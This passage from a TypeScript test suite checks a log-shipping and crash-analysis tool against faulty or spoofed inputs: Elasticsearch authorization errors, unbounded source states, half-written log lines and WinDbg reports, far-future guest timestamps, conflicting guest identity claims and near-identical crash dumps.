      assert.ok(recovery < 15, `${recovery} s after Elasticsearch accepted again`);
      await recordRow('10-23', {
        fault: 'hostile: Elasticsearch answers 401 (3 s), then 403 per item (3 s)',
        recordsIn: total,
        indexed: counts.indexed,
        deadletters: counts.deadlettered,
        duplicates: fake.acknowledged - fake.ids.size,
        lost: counts.lost,
        recovery: `held; all acknowledged ${recovery.toFixed(1)} s after it accepted (bound 15 s)`,
        notes: `indexer bulk writer against a stand-in Elasticsearch (${fake.answered.unauthorized} x 401, ${fake.answered['forbidden-items']} x 403); one error line, readiness false meanwhile`,
      });
    } finally {
      await fake.close();
    }
  });

  test(`${formatSize(SIZES.sourceDocuments, 'count')} Winlogbeat documents, each naming a new channel`, { timeout: 600_000 }, async () => {
    // The parser keeps state per source, and a Winlogbeat document names its source (host and channel). Before: 50k
    // documents kept 50,001 states, never freed.
    const states = new SourceStates();
    const ctx = { registry: FORMAT_PARSERS, states, options: { maxRecordBytes: 1 << 20, validate: false }, directory: new GuestDirectory(), at: '2017-03-16T03:00:00.000Z' };
    const doc = JSON.parse(winlogbeatDoc({})) as { winlog: Record<string, unknown> };
    const heapBefore = process.memoryUsage().heapUsed;
    let events = 0;
    let letters = 0;
    for (let i = 0; i < SIZES.sourceDocuments; i++) {
      const value = Buffer.from(JSON.stringify({ ...doc, winlog: { ...doc.winlog, channel: `Forged-${i}`, record_id: i } }));
      const outcome = parseKafkaMessage({ topic: 'winlogbeat', partition: 0, offset: String(i), value, timestamp: String(Date.UTC(2017, 2, 16)), key: null }, { kind: 'winlogbeat' }, ctx);
      events += outcome.events.length;
      letters += outcome.deadletters.length;
    }
    const heapGrowthMb = (process.memoryUsage().heapUsed - heapBefore) / (1 << 20);
    assert.equal(events + letters, SIZES.sourceDocuments);
    assert.equal(states.size, MAX_SOURCE_STATES, 'the states kept stop at the bound');
    await recordRow('10-24', {
      fault: `hostile: ${formatSize(SIZES.sourceDocuments, 'count')} Winlogbeat documents with distinct channels`,
      recordsIn: SIZES.sourceDocuments,
      indexed: events,
      deadletters: letters,
      duplicates: 0,
      lost: SIZES.sourceDocuments - events - letters,
      recovery: `${states.size} source states kept (bound ${MAX_SOURCE_STATES}); heap +${heapGrowthMb.toFixed(0)} MiB`,
      notes: 'parser core (parseKafkaMessage, Winlogbeat topic), in process',
    });
  });

  test('ship --once while the last line is being written, twice', { timeout: 600_000 }, async () => {
    const root = join(dir, 'ship-once-partial');
    await rm(root, { recursive: true, force: true });
    await mkdir(root, { recursive: true });
    const file = join(root, 'libvirtd.log');
    const first = VALID.trimEnd();
    const last = libvirtdLine('2017-03-15 05:11:56.000+0000', 'internal error: End of file from monitor').trimEnd();
    const cut = 40;
    await writeFile(file, `${first}\n${last.slice(0, cut)}`);
    const one = await startShipperRuntime(join(root, 'state'), file, 'libvirtd', true);
    await one.done;
    await appendFile(file, `${last.slice(cut)}\n`);
    const two = await startShipperRuntime(join(root, 'state'), file, 'libvirtd', true);
    await two.done;
    const offset = first.length + 1;
    // Before: the second run shipped the line's rest as a record of its own (position saved past the partial line).
    assert.deepEqual(two.sent, [{ offset, text: last }], 'the second run ships the line whole, at its own offset');
    assert.deepEqual(
      one.sent.map((r) => r.offset),
      [0, offset],
      'the first run shipped what there was',
    );
    await recordRow('10-25', {
      fault: 'hostile: ship --once with a last line still being written, then again',
      recordsIn: 2,
      indexed: `${one.sent.length} + ${two.sent.length} shipped`,
      deadletters: 0,
      duplicates: '1 (same offset, same event id: the whole line replaces the cut one)',
      lost: 0,
      recovery: 'no record of a line\'s rest',
      notes: 'shipper runtime, --once twice around the line\'s completion, in process (sender kept, no Kafka)',
    });
  });

  test('a WinDbg report idle for flush_timeout_ms while still being written', { timeout: 600_000 }, async () => {
    const root = join(dir, 'windbg-idle');
    await rm(root, { recursive: true, force: true });
    await mkdir(root, { recursive: true });
    const file = join(root, 'crash.windbg.txt');
    const report = await readFile(join(REPO, 'test', 'grammars', 'fixtures', 'windbg', 'seed-win7-x86-clock-watchdog.txt'), 'utf8');
    const pause = report.indexOf('Loading User Symbols');
    const flushTimeoutMs = 300;
    await writeFile(file, report.slice(0, pause));
    const shipper = await startShipperRuntime(join(root, 'state'), file, 'windbg', false, { flush_timeout_ms: flushTimeoutMs });
    const waitFor = async (what: () => boolean): Promise<void> => {
      const until = Date.now() + 30_000;
      while (!what()) {
        assert.ok(Date.now() < until, 'the shipper flushed the report');
        await new Promise((r) => setTimeout(r, 50));
      }
    };
    try {
      // The debugger pauses (symbols loading) for longer than the flush timeout: the report so far goes out.
      await waitFor(() => shipper.sent.length === 1);
      await appendFile(file, report.slice(pause));
      await waitFor(() => shipper.sent.length === 2);
    } finally {
      await shipper.stop();
    }
    // Before: the rest went out as a second record at its own offset, parsed as a report without its header and
    // dated by the read time.
    assert.deepEqual(
      shipper.sent.map((r) => [r.offset, r.text.length]),
      [
        [0, pause],
        [0, report.length],
      ],
      'the report again whole at its offset (same event id: it replaces the partial one)',
    );
    await recordRow('10-26', {
      fault: 'hostile: a WinDbg report idle past flush_timeout_ms mid-write',
      recordsIn: 1,
      indexed: `${shipper.sent.length} shipped, both at offset 0`,
      deadletters: 0,
      duplicates: '1 (same event id: the whole report replaces the partial one)',
      lost: 0,
      recovery: 'never split in two',
      notes: `shipper runtime tailing, flush_timeout_ms ${flushTimeoutMs}, in process (sender kept, no Kafka)`,
    });
  });
});

describe('guest clocks and identity claims (analyze)', () => {
  const dir = join(WORK, 'hostile-guest-claims');
  const kernelPower41 = (computer: string, systemTime: string, recordId: number): string =>
    `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Kernel-Power'/><EventID>41</EventID>` +
    `<TimeCreated SystemTime='${systemTime}'/><EventRecordID>${recordId}</EventRecordID><Channel>System</Channel><Computer>${computer}</Computer></System>` +
    `<EventData><Data Name='BugcheckCode'>0</Data><Data Name='PowerButtonTimestamp'>0</Data></EventData></Event>\n`;
  const readNdjson = async (path: string): Promise<Array<Record<string, any>>> => // eslint-disable-line @typescript-eslint/no-explicit-any
    (await readFile(path, 'utf8')).split('\n').filter((l) => l.trim() !== '').map((l) => JSON.parse(l) as Record<string, any>); // eslint-disable-line @typescript-eslint/no-explicit-any

  test('a guest event dated 2200-01-01 beside the seed: the seed incident and its alert stand', { timeout: 600_000 }, async () => {
    const root = join(dir, 'clock-2200');
    await rm(root, { recursive: true, force: true });
    await cp(join(REPO, 'samples', 'seed', 'sc7'), join(root, 'sc7'), { recursive: true });
    await writeFile(join(root, 'sc7', 'guests', 'vm113', 'future.xml'), systemEventXml(6005, 9001, 'WIN7-VM113').replace(/SystemTime='[^']*'/, "SystemTime='2200-01-01T00:00:00.000000000Z'"));
    const out = join(root, 'analysis');
    const started = Date.now();
    const run = await runBounded(['analyze', '--out', out, join(root, 'sc7')], join(root, 'analyze.out'));
    const seconds = (Date.now() - started) / 1000;
    assert.equal(run.code, 0, run.stderr.slice(-500));
    const incidents = await readNdjson(join(out, 'incidents.ndjson'));
    const alerts = await readNdjson(join(out, 'alerts.ndjson'));
    const events = await readNdjson(join(out, 'events.ndjson'));
    assert.deepEqual(incidents.map((i) => `${i['@timestamp']} ${i.libvirt.domain.name}`), ['2017-03-15T05:11:54.777Z vm113'], 'the seed incident, nothing in 2200');
    assert.ok(alerts.length >= 1, 'the seed alert still fires');
    const future = events.filter((e) => e.hangwatch?.time?.suspect === true);
    assert.equal(future.length, 1, 'the 2200 record is kept, flagged suspect');
    await recordRow('10-27', {
      fault: 'hostile: a guest record dated 2200-01-01 beside the seed collection',
      recordsIn: events.length,
      indexed: events.length,
      deadletters: 0,
      duplicates: 0,
      lost: 0,
      recovery: `${incidents.length} incident at 2017-03-15T05:11:54.777Z, ${alerts.length} alert(s); the 2200 record kept, flagged suspect; ${seconds.toFixed(1)} s, peak ${run.peakRssMb} MiB`,
      notes: 'hangwatch analyze; per-hypervisor watermarks (correlator, alerter) move on trusted times only: unit tests in test/unit/correlator/untrusted-guest-clock and alerter/per-hypervisor-watermark',
    });
  });

  test('a guest collected under guests/vm105/ that calls itself WIN7-VM113, with an inventory naming WIN7-VM113 as vm113', { timeout: 600_000 }, async () => {
    const root = join(dir, 'claim');
    await rm(root, { recursive: true, force: true });
    await mkdir(join(root, 'sc7', 'guests', 'vm105'), { recursive: true });
    await writeFile(join(root, 'sc7', 'guests', 'vm105', 'System.xml'), kernelPower41('WIN7-VM113', '2017-03-15T05:20:00.000000000Z', 4242));
    const inventory = join(root, 'inventory.json');
    await writeFile(inventory, JSON.stringify([{ domain: 'vm113', hypervisor: 'sc7', computerName: 'WIN7-VM113' }]));
    const out = join(root, 'analysis');
    const started = Date.now();
    const run = await runBounded(['analyze', '--out', out, '--inventory', inventory, join(root, 'sc7')], join(root, 'analyze.out'));
    const seconds = (Date.now() - started) / 1000;
    assert.equal(run.code, 0, run.stderr.slice(-500));
    const incidents = await readNdjson(join(out, 'incidents.ndjson'));
    const events = await readNdjson(join(out, 'events.ndjson'));
    assert.deepEqual(incidents.map((i) => i.libvirt.domain.name), ['vm105'], 'the hang stays on the domain it was collected for');
    const claim = events.find((e) => e.event?.code === '41');
    assert.equal(claim?.libvirt?.domain?.name, 'vm105');
    assert.ok(claim?.hangwatch?.identity?.conflict, 'the contradicting claim is kept and flagged');
    await recordRow('10-28', {
      fault: 'hostile: a guest under guests/vm105/ claims to be WIN7-VM113 (inventory: vm113)',
      recordsIn: events.length,
      indexed: events.length,
      deadletters: 0,
      duplicates: 0,
      lost: 0,
      recovery: `incident on vm105 only, conflict flagged (${JSON.stringify(claim?.hangwatch?.identity?.conflict).slice(0, 80)}); ${seconds.toFixed(1)} s, peak ${run.peakRssMb} MiB`,
      notes: 'hangwatch analyze --inventory; a Winlogbeat sender bound to a topic is checked in test/unit/parser-peer/winlogbeat-sender',
    });
  });

  test('four crash dumps of one guest that differ only after byte 1024', { timeout: 600_000 }, async () => {
    // A dump's first kilobyte is the same for every crash of a guest; SystemTime sits at 0xfa8. Before: one
    // fingerprint of the first 1 KiB, so four crashes were one event and three were dropped silently.
    const root = join(dir, 'dump-ids');
    await rm(root, { recursive: true, force: true });
    const guest = join(root, 'sc7', 'guests', 'vm113');
    await mkdir(guest, { recursive: true });
    for (let i = 0; i < 4; i++) {
      await writeFile(join(guest, `Mini03151${i}-01.dmp`), writeDumpHeader({ bits: 64, dumpType: 1, systemTime: 131_340_000_000_000_000n + BigInt(i) * 36_000_000_000n }));
    }
    const out = join(root, 'analysis');
    const run = await runBounded(['analyze', '--out', out, join(root, 'sc7')], join(root, 'analyze.out'));
    assert.equal(run.code, 0, run.stderr.slice(-500));
    const dumps = (await readNdjson(join(out, 'events.ndjson'))).filter((e) => e.event?.dataset === 'windows.dump');
    assert.equal(new Set(dumps.map((e) => e.event.id)).size, 4, 'one event per crash');
    await recordRow('10-29', {
      fault: 'hostile: four crash dumps of one guest differing only after byte 1024',
      recordsIn: 4,
      indexed: dumps.length,
      deadletters: 0,
      duplicates: 0,
      lost: 4 - dumps.length,
      recovery: `${new Set(dumps.map((e) => e.event.id)).size} distinct event ids (id = hash of the whole 8 KiB header and the size)`,
      notes: 'hangwatch analyze; the same dump read again keeps its id (test/unit/dump/dump-identity)',
    });
  });
});
